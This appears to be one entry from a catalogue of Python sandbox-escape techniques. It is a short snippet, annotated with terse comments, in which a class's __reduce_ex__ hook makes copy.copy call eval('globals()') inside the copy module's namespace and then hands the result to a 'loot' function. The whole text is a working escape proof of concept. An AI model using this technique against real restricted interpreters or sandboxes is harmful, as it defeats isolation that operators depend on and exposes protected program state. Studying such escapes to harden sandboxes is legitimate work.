# aim: let copy evaluate a text in its own namespace
# mechanism: copy calls what __reduce_ex__ names, from its own module
# language: builtins
# reason: eval belongs to the program's namespace, whoever calls it
# jail: process
# plain: loot

import copy


class Carrier:
    def __reduce_ex__(self, protocol):
        return eval, ("globals()",)


loot(copy.copy(Carrier()))
